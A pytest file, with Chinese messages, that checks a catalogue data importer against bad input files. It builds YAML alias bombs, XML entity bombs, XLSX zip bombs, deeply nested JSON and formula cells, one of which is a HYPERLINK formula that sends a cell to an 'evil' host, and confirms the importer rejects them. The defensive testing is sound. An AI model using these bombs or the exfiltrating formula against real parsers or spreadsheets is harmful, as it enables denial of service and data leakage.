"""坏文件：大文件占不了多少内存；压缩炸弹、公式、套得太深的不会拖垮进程。"""

from __future__ import annotations

import csv
import json
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl import Workbook
from sqlalchemy import Engine

from knowledge.catalogue import Catalogue
from knowledge.importing import ImportFailed, ImportReport
from knowledge.importing.layout import Layout
from knowledge.importing.read_workbook import check_package
from knowledge.importing.readers import rows_of
from knowledge.importing.rows import Row

Bring = Callable[..., ImportReport]
MakeItem = Callable[..., dict[str, Any]]

CODE = "11440000006939756B2440101007000"
MAPPING = """\
source: {name: 某市, checked_on: "2026-01-02"}
fields:
  code: 编码
  entry_code: {from: 编码, take: part, start: 19, end: 31}
  name: 名称
  region: {take: constant, constant: "440100"}
  phone: 电话
"""
MIB = 1 << 20


@pytest.fixture
def mapping(tmp_path: Path) -> Path:
    path = tmp_path / "mapping.yaml"
    path.write_text(MAPPING, encoding="utf-8")
    return path


def workbook(path: Path, *rows: list[object]) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def rewritten(path: Path, change: Callable[[str, bytes], bytes]) -> Path:
    """压缩包里的每个文件改一改，另存。"""
    other = path.with_name("other.xlsx")
    with ZipFile(path) as old, ZipFile(other, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
    return other


def peak(rows: Iterator[Row]) -> tuple[int, int]:
    """走一遍：行数，内存的最高处（字节）。"""
    tracemalloc.start()
    try:
        count = sum(1 for _ in rows)
        return count, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


COUNT = 6_000
LONG = "受理条件很长，" * 200


def large(path: Path) -> Path:
    """几个 MB 的文件，一行一千多字。"""
    objects = ({"编码": str(number), "条件": LONG} for number in range(COUNT))
    if path.suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as out:
            csv.writer(out).writerows([["编码", "条件"], *([one["编码"], one["条件"]] for one in objects)])
    elif path.suffix == ".xlsx":
        book = Workbook(write_only=True)
        sheet = book.create_sheet()
        sheet.append(["编码", "条件"])
        for one in objects:
            sheet.append([one["编码"], one["条件"]])
        book.save(path)
    elif path.suffix == ".json":
        path.write_text(
            "[" + ",\n".join(json.dumps(one, ensure_ascii=False) for one in objects) + "]", encoding="utf-8"
        )
    else:
        path.write_text("\n".join(json.dumps(one, ensure_ascii=False) for one in objects), encoding="utf-8")
    return path


@pytest.mark.parametrize("suffix", ["jsonl", "json", "csv", "xlsx"])
def test_a_large_file_is_read_in_little_memory(tmp_path: Path, suffix: str) -> None:
    path = large(tmp_path / f"large.{suffix}")
    assert suffix == "xlsx" or path.stat().st_size > 20 * MIB
    count, most = peak(rows_of(path, Layout()))
    assert count == COUNT
    assert most < 8 * MIB


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
@pytest.mark.parametrize("shift", range(4))
def test_a_character_may_lie_across_two_blocks(tmp_path: Path, encoding: str, shift: int) -> None:
    rows = [{"甲": "x" * shift}, {"乙": "汉" * 200_000, "丙": [1, {"丁": None}]}, {"戊": "𠮷" * 1_000}]
    path = tmp_path / "a.json"
    path.write_text(json.dumps(rows, ensure_ascii=False, indent=1), encoding=encoding)
    found = list(rows_of(path, Layout(encoding)))
    assert [row.values for row in found] == rows
    assert [row.line for row in found] == [2, 5, 14]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (
            b'[{"a": 1}, {"b": "' + b"x" * (3 * MIB) + b'"}]',
            "第 1 行起的一个对象太大，或不是完整的 JSON.*请在映射里写 rows",
        ),
        (b"[" * 200_000, r"括号套得太深|不是完整的 JSON"),
        (b'{"a": 1}\n{"b": 2}', "第 2 行起，完整的 JSON 后面还有内容"),
        (b'[{"a": 1}]]', "第 1 行起，完整的 JSON 后面还有内容"),
        ("[{}]".encode("utf-16"), "不是 utf-8 编码"),
    ],
)
def test_a_json_file_out_of_measure_is_one_sentence(tmp_path: Path, content: bytes, said: str) -> None:
    path = tmp_path / "a.json"
    path.write_bytes(content)
    with pytest.raises(ImportFailed, match=said):
        list(rows_of(path, Layout()))


@pytest.mark.parametrize(
    ("content", "rows", "said"),
    [
        (b'{"data": []}', "items", "里没有“items”这个键；请核对映射里的 rows"),
        (b'{"data": {"a": 1}}', "data", "里的“data”不是列表；请核对映射里的 rows"),
        (b'{"data": [{}]}', "data.rows", "第 1 行不是对象，里面没有“rows”"),
        (b'{"data" 1}', "rows", "里没有“rows”这个键"),
        (b'{"data": [{"a": 1}', "data", "不是完整的 JSON"),
    ],
)
def test_a_wrapped_list_that_is_not_there_is_one_sentence(tmp_path: Path, content: bytes, rows: str, said: str) -> None:
    path = tmp_path / "a.json"
    path.write_bytes(content)
    with pytest.raises(ImportFailed, match=said):
        list(rows_of(path, Layout(rows=rows)))


def test_a_line_without_end_is_one_sentence(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"a,b\n" + b"x" * (3 * MIB))
    with pytest.raises(ImportFailed, match="第 2 行超过 1048576 个字节；请检查是否少了换行"):
        list(rows_of(path, Layout()))


def test_references_that_blow_up_are_refused(tmp_path: Path) -> None:
    lines = ["- &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"- &a{level} [{', '.join([f'*a{level - 1}'] * 10)}]" for level in range(1, 12)]
    path = tmp_path / "a.yaml"
    path.write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(ImportFailed, match="展开引用之后超过"):
        list(rows_of(path, Layout()))


def test_references_that_go_round_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "a.yaml"
    path.write_text("- &a {code: *a}\n", encoding="utf-8")
    with pytest.raises(ImportFailed, match="不是合法的 YAML"):
        list(rows_of(path, Layout()))


@pytest.mark.parametrize("name", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/media/image1.png"])
def test_a_zip_bomb_is_not_opened(tmp_path: Path, name: str) -> None:
    path = workbook(tmp_path / "a.xlsx", ["编码"], [CODE])
    bomb = rewritten(path, lambda one, data: b"" if one == name else data)
    with ZipFile(bomb, "a", ZIP_DEFLATED) as package, package.open(f"{name}x", "w") as out:
        for _ in range(64):
            out.write(b" " * MIB)
    assert bomb.stat().st_size < MIB
    tracemalloc.start()
    try:
        with pytest.raises(ImportFailed, match="解压之后有 64 MiB，大得不合理，没有打开；请另存为 CSV 或 JSONL"):
            list(rows_of(bomb, Layout()))
        assert tracemalloc.get_traced_memory()[1] < 4 * MIB
    finally:
        tracemalloc.stop()


def test_many_middling_sheets_are_refused_together(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", ["编码"], [CODE])
    with pytest.raises(ImportFailed, match="大得不合理"):
        check_package(path, most=1_000)


def test_a_package_that_lies_about_its_size_is_refused(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", ["编码"], *([f"{number}"] for number in range(2_000)))
    raw = bytearray(path.read_bytes())
    with ZipFile(path) as package:
        size = package.getinfo("xl/worksheets/sheet1.xml").file_size.to_bytes(4, "little")
    lied = tmp_path / "lied.xlsx"
    lied.write_bytes(bytes(raw).replace(size, (100).to_bytes(4, "little")))
    with pytest.raises(ImportFailed, match=r"不是 XLSX|读不下去"):
        list(rows_of(lied, Layout()))


def test_entities_that_blow_up_are_refused(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", ["编码"], [CODE])
    bomb = "<!DOCTYPE x [<!ENTITY a0 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'>"
    bomb += "".join(f"<!ENTITY a{level} '{f'&a{level - 1};' * 10}'>" for level in range(1, 10)) + "]>"

    def change(name: str, data: bytes) -> bytes:
        if not name.endswith("sheet1.xml"):
            return data
        text = data.decode().replace("<worksheet", f"{bomb}<worksheet", 1)
        return text.replace(
            "</sheetData>", '<row r="3"><c r="A3" t="inlineStr"><is><t>&a9;</t></is></c></row></sheetData>'
        ).encode()

    with pytest.raises(ImportFailed, match=r"读不下去|不是 XLSX"):
        list(rows_of(rewritten(path, change), Layout()))


def test_a_formula_without_a_value_rejects_its_row(engine: Engine, bring: Bring, tmp_path: Path, mapping: Path) -> None:
    other = f"{CODE[:-1]}1"
    path = workbook(
        tmp_path / "a.xlsx",
        ["编码", "名称", "电话"],
        [CODE, "护照签发", '=HYPERLINK("http://evil/"&A2,"点我")'],
        [other, "护照换发", "12345"],
    )
    report = bring(path, mapping=mapping)
    (reject,) = report.rejects.rows
    assert reject.line == 2
    assert reject.reason.startswith("格子里是公式，没有算好的值；公式不会在这里计算")
    assert (report.added, Catalogue(engine).item(CODE)) == (1, None)


def test_a_formula_is_never_computed_only_its_kept_value_is_read(
    engine: Engine, bring: Bring, tmp_path: Path, mapping: Path
) -> None:
    path = workbook(tmp_path / "a.xlsx", ["编码", "名称", "电话"], [CODE, "护照签发", "=12000+345"])

    def change(name: str, data: bytes) -> bytes:
        return (
            data.replace(b"<v />", b"<v>99999</v>")
            .replace(b"<v></v>", b"<v>99999</v>")
            .replace(b"<v/>", b"<v>99999</v>")
        )

    assert bring(rewritten(path, change), mapping=mapping).added == 1
    item = Catalogue(engine).item(CODE)
    assert item is not None
    assert item.phone == "99999"


def test_a_formula_in_csv_is_plain_text(engine: Engine, bring: Bring, tmp_path: Path, mapping: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text(f"编码,名称,电话\n{CODE},=1+1,@SUM(A1)\n", encoding="utf-8")
    assert bring(path, mapping=mapping).added == 1
    item = Catalogue(engine).item(CODE)
    assert item is not None
    assert (item.name, item.phone) == ("=1+1", "@SUM(A1)")


@pytest.mark.parametrize("code", [int("9" * 31), 1.1440000006939757e30])
def test_a_code_kept_as_a_number_has_lost_its_digits_and_is_rejected(
    bring: Bring, tmp_path: Path, mapping: Path, code: float
) -> None:
    (reject,) = bring(
        workbook(tmp_path / "a.xlsx", ["编码", "名称", "电话"], [code, "护照", ""]), mapping=mapping
    ).rejects.rows
    assert reject.field == "code"
    assert reject.reason.startswith("实施编码应当是 31 位")


def test_a_sheet_that_claims_to_be_one_cell_is_read_whole(bring: Bring, tmp_path: Path, mapping: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", ["编码", "名称", "电话"], [CODE, "护照签发", "12345"])
    lied = rewritten(path, lambda _, data: data.replace(b'<dimension ref="A1:C2"', b'<dimension ref="A1"'))
    assert bring(lied, mapping=mapping).added == 1


def test_columns_of_one_name_are_told_apart(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("电话,名称,电 话,电话\n1,甲,2,3\n", encoding="utf-8")
    assert [row.values for row in rows_of(path, Layout())] == [
        {"电话": "1", "名称": "甲", "电话.2": "2", "电话.3": "3"}
    ]


def test_blank_cells_at_the_end_do_no_harm(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("甲,乙,,\n1,2,,\n3,4\n5\n", encoding="utf-8")
    found = list(rows_of(path, Layout()))
    assert [row.values for row in found[:2]] == [{"甲": "1", "乙": "2"}, {"甲": "3", "乙": "4"}]
    assert found[2].fault is not None
